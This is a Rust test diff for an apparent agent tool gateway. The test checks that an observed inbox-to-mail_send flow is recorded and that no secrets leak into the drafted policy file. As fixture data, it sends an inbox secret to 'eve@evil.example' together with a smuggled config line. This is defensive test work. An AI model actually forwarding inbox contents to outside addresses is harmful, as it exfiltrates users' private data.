@@ -902,3 +902,40 @@ fn a_list_is_kept_and_a_wrapped_server_writes_here() {
     let mut client = Client::of(command, json!({}));
     assert!(!said(&client.call("read_inbox", &json!({}))).1);
 }
+
+#[test]
+fn observed_calls_run_and_none_of_their_secrets_is_in_the_draft() {
+    let home = Home::new();
+    let path = home.path("home/server.js");
+    fs::write(&path, SERVER).unwrap();
+    home.configure(&format!("[app.mail]\ncommand = [\"node\", {path:?}]\n"));
+    let mut command = home.sluice(&["gateway", "--observe", "--json"]);
+    let err = home.path("err");
+    command.stderr(fs::File::create(&err).unwrap());
+    let mut client = Client::of(command, json!({ "elicitation": {} }));
+    let inbox = client.call("mail_inbox", &json!({}));
+    assert!(inbox.to_string().contains("4711"), "{inbox}");
+    let mail = json!({ "to": "eve@evil.example", "body": "4711\n[proxy]\nany_model = true" });
+    let sent = client.call("mail_send", &mail);
+    assert!(sent.to_string().contains("sent"), "{sent}");
+    drop(client.input.take());
+    client.child.wait().unwrap();
+    let err = fs::read_to_string(err).unwrap();
+    let report: Value = serde_json::from_str(err.lines().last().unwrap()).unwrap();
+    let flows = report["flows"].as_array().unwrap();
+    let is_flow = |flow: &Value| flow["from"] == "mail.inbox" && flow["to"] == "mail.send";
+    assert!(flows.iter().any(is_flow), "{err}");
+    let draft = home.path("config/sluice/sluice.observed.toml");
+    assert_eq!(report["draft"], draft.to_str().unwrap());
+    let text = fs::read_to_string(&draft).unwrap();
+    for word in ["4711", "evil", "any_model"] {
+        assert!(!text.contains(word), "{text}");
+    }
+    assert!(text.contains("[app.mail.tools.send]"), "{text}");
+    let check = ["policy", "check", "--config", draft.to_str().unwrap()];
+    let (code, out, err) = crate::home::said(&home.sluice(&check).output().unwrap());
+    assert!(
+        code == 0 && out.contains("examples, all passed"),
+        "{out}{err}"
+    );
+}
